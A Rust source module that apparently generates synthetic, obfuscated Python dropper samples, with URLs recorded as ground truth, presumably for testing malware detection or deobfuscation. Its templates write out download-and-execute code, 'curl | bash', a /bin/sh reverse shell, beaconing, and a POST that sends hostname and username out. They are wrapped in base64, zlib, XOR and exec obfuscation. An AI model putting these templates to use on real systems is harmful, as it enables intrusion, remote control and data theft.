//! Droppers in Python.

use super::{Dice, Truth, base64, codes, hex, reversed, rot13, xored, zlib};
use std::fmt::Write;

const FILES: &[&str] = &["", ".py", ".bin", ".exe", ".sh", ".elf"];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    match dice.below(16) {
        0 => format!("'{text}'"),
        1 => {
            let words: Vec<String> =
                dice.pieces(text).iter().map(|piece| format!("'{piece}'")).collect();
            words.join(" + ")
        }
        2 => format!("'{}'[::-1]", reversed(text)),
        3 => {
            before.push_str("import base64\n");
            format!("base64.b64decode('{}').decode()", base64(text.as_bytes()))
        }
        4 => format!("bytes.fromhex('{}').decode('utf-8')", hex(text.as_bytes())),
        5 => {
            before.push_str("import binascii\n");
            format!("binascii.unhexlify(b'{}').decode()", hex(text.as_bytes()))
        }
        6 => format!("''.join(chr(c) for c in [{}])", codes(text.bytes(), ", ")),
        7 => format!("''.join(map(chr, [{}]))", codes(text.bytes(), ",")),
        8 => {
            let key = dice.key();
            format!("''.join([chr(x ^ {key}) for x in [{}]])", codes(xored(text, key), ","))
        }
        9 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let holes: String = (0..pieces.len())
                .map(|at| {
                    format!("{{{}}}", order.iter().position(|o| *o == at).unwrap_or_default())
                })
                .collect();
            let words: Vec<String> = order.iter().map(|at| format!("'{}'", pieces[*at])).collect();
            format!("'{holes}'.format({})", words.join(", "))
        }
        10 => {
            let mark = dice.mark(text);
            format!("'{}'.replace('{mark}', '')", dice.littered(text, &mark))
        }
        11 => {
            before.push_str("import zlib, base64\n");
            format!(
                "zlib.decompress(base64.b64decode(b'{}')).decode()",
                base64(&zlib(text.as_bytes()))
            )
        }
        12 => {
            before.push_str("import codecs\n");
            format!("codecs.decode('{}', 'rot13')", rot13(text))
        }
        13 => {
            let key = dice.key();
            let _ = writeln!(
                before,
                "def {name}(s, k):\n    out = ''\n    for i in range(len(s)):\n        out += chr(ord(s[i]) ^ k)\n    return out"
            );
            let escaped: String =
                xored(text, key).iter().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("{name}('{escaped}', {key})")
        }
        14 => {
            let pieces = dice.pieces(text);
            let _ = writeln!(before, "{name} = {{}}");
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "{name}[{at}] = '{}'", pieces[at]);
            }
            format!("''.join({name}[i] for i in sorted({name}))")
        }
        _ => {
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let name = dice.name();
                let _ = writeln!(before, "{name} = '{piece}'");
                let _ = write!(word, "{{{name}}}");
            }
            format!("f'{word}'")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut text = dice
        .pick(&[
            "#!/usr/bin/env python3\n",
            "#!/usr/bin/python3\n# -*- coding: utf-8 -*-\n",
            "#!/usr/bin/python3 -u\n",
        ])
        .to_owned();
    for _ in 0..1 + dice.below(2) {
        let mut before = String::new();
        let line = delivery(dice, truth, &mut before);
        text.push_str(&before);
        text.push_str(&line);
        if super::ends(&line) {
            break;
        }
    }
    match dice.below(9) {
        0 => format!(
            "#!/usr/bin/python3\nimport base64\nexec(base64.b64decode('{}'))\n",
            base64(text.as_bytes())
        ),
        1 => format!(
            "#!/usr/bin/python3\nexec(__import__('zlib').decompress(__import__('base64').b64decode(b'{}')).decode())\n",
            base64(&zlib(text.as_bytes()))
        ),
        2 => format!(
            "#!/usr/bin/python3\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))\n",
            reversed(&base64(&zlib(text.as_bytes())))
        ),
        3 => {
            let body: String = text.lines().map(|line| format!("    {line}\n")).collect();
            format!(
                "#!/usr/bin/python3\ndef main():\n{body}\nif __name__ == '__main__':\n    main()\n"
            )
        }
        4 => format!(
            "#!/usr/bin/python3\neval(compile(bytes.fromhex('{}').decode(), '<string>', 'exec'))\n",
            hex(text.as_bytes())
        ),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = format!("/tmp/.{}", dice.name());
    let var = dice.name();
    match dice.below(16) {
        0 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "import urllib.request, os\n{var} = urllib.request.urlopen({url}).read()\nwith open('{file}', 'wb') as f:\n    f.write({var})\nos.chmod('{file}', 0o755)\nos.system('{file} &')\n"
            )
        }
        1 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "from urllib.request import urlretrieve\nimport subprocess\nurlretrieve({url}, '{file}')\nsubprocess.Popen(['/bin/sh', '{file}'])\n"
            )
        }
        2 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "import requests, os, stat\nr = requests.get({url}, verify=False, timeout=10)\nopen('{file}', 'wb').write(r.content)\nst = os.stat('{file}')\nos.chmod('{file}', st.st_mode | stat.S_IEXEC)\nos.popen('{file}')\n"
            )
        }
        3 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "import os\nos.system('wget -q ' + {url} + ' -O {file} && chmod +x {file} && {file}')\n"
            )
        }
        4 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "import subprocess\nsubprocess.call('curl -s -o {file} %s; sh {file}' % ({url}), shell=True)\n"
            )
        }
        5 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "import subprocess\nsubprocess.run(['curl', '-fsSL', {url}, '-o', '{file}'], check=False)\n"
            )
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(({host},{port}))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\np=subprocess.call(['/bin/sh','-i'])\n"
            )
        }
        7 => {
            let url = truth.url(dice, &[".py", ".txt", ""]);
            let url = hide(dice, &url, before);
            format!("exec(__import__('urllib.request').request.urlopen({url}).read().decode())\n")
        }
        8 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "import socket, time, threading\nHOST = {host}\nPORT = {port}\ndef {var}():\n    while True:\n        try:\n            s = socket.socket()\n            s.connect((HOST, PORT))\n            while True:\n                data = s.recv(1024)\n                if not data:\n                    break\n                s.send(data)\n        except Exception as e:\n            time.sleep(60)\nt = threading.Thread(target={var})\nt.start()\n"
            )
        }
        9 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "import sys\ntry:\n    import urllib2\n    opener = urllib2\nexcept ImportError:\n    import urllib.request\n    opener = urllib.request\nreq = opener.Request({url}, headers={{'User-Agent': 'Mozilla/5.0'}})\n{var} = opener.urlopen(req, timeout=5).read()\nopen('{file}', 'wb').write({var})\n"
            )
        }
        10 => {
            let host = dice.host();
            let path = format!("/{}/{}", dice.name(), dice.name());
            truth.urls.insert(format!("http://{host}{path}"));
            let host = hide(dice, &host, before);
            format!(
                "import http.client\nconn = http.client.HTTPConnection({host})\nconn.request('GET', '{path}')\n{var} = conn.getresponse().read()\nopen('{file}', 'wb').write({var})\n"
            )
        }
        11 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            let class = dice.name();
            format!(
                "import os\nfrom urllib import request\nclass {class}:\n    def __init__(self, url):\n        self.url = url\n        self.path = os.path.join('/tmp', os.path.basename(url))\n    def get(self):\n        data = request.urlopen(self.url).read()\n        with open(self.path, 'wb') as out:\n            out.write(data)\n        return self.path\nd = {class}({url})\nos.system('chmod 777 ' + d.get())\n"
            )
        }
        12 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "import socket\nsock = socket.create_connection(({host}, {port}), timeout=10)\nsock.sendall(b'NICK {var}\\r\\n')\n"
            )
        }
        13 => {
            let url = truth.url(dice, &[".sh"]);
            let url = hide(dice, &url, before);
            format!(
                "import os, platform\nif platform.system() == 'Linux':\n    {var} = {url}\n    os.popen('curl -s {{}} | bash'.format({var})).read()\n"
            )
        }
        14 => {
            let base = format!("http://{}/{}/", dice.host(), dice.name());
            let files: Vec<String> = (0..2 + dice.below(3)).map(|_| dice.name()).collect();
            for file in &files {
                truth.urls.insert(format!("{base}{file}"));
            }
            let list: Vec<String> = files.iter().map(|file| format!("'{file}'")).collect();
            let base = hide(dice, &base, before);
            format!(
                "import urllib.request\n{var} = {base}\nfor name in [{}]:\n    try:\n        urllib.request.urlretrieve({var} + name, '/tmp/' + name)\n    except Exception:\n        pass\n",
                list.join(", ")
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".php", "/api"]);
            let url = hide(dice, &url, before);
            format!(
                "import json, urllib.request, socket, getpass\n{var} = json.dumps({{'host': socket.gethostname(), 'user': getpass.getuser()}}).encode()\nreq = urllib.request.Request({url}, data={var}, headers={{'Content-Type': 'application/json'}}, method='POST')\nurllib.request.urlopen(req)\n"
            )
        }
    }
}
